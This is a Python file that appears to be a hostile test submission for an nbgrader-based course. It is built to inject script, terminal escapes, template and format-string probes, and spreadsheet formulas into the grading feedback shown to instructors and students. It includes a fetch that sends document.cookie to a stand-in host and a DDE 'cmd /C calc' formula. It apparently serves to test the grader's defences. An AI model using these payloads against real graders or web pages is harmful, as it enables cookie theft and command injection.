# attack: script, terminal escapes, formulas and half characters in whatever the feedback may show
# on: empty
# harm: plain nbgrader copies tracebacks and outputs into HTML that instructors and students open
# %% solution="target_layer"
EVIL = (
    "</pre><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
    "\x1b[2J\x1b]0;owned\x07\u202e\ud800 {{ self.__init__.__globals__ }} {% raw %} ${7*7} %s%n"
)


class Evil(Exception):
    def __str__(self):
        return '=HYPERLINK("http://evil.example","25")' + EVIL * 50


Evil.__name__ = Evil.__qualname__ = "=cmd|'/C calc'!A0" + EVIL


def find_target_layer(model):
    raise Evil


# %% solution="gradcam"
class GradCAM:
    def __init__(self, model, target_layer):
        raise Evil


# %% solution="contrast"
def contrast_heatmap(model, target_layer, images):
    raise type(EVIL[:200].encode("utf-8", "replace").decode(), (Exception,), {})(EVIL)


# %% solution="overlay"
def overlay(image, heatmap, alpha):
    return {EVIL: EVIL}
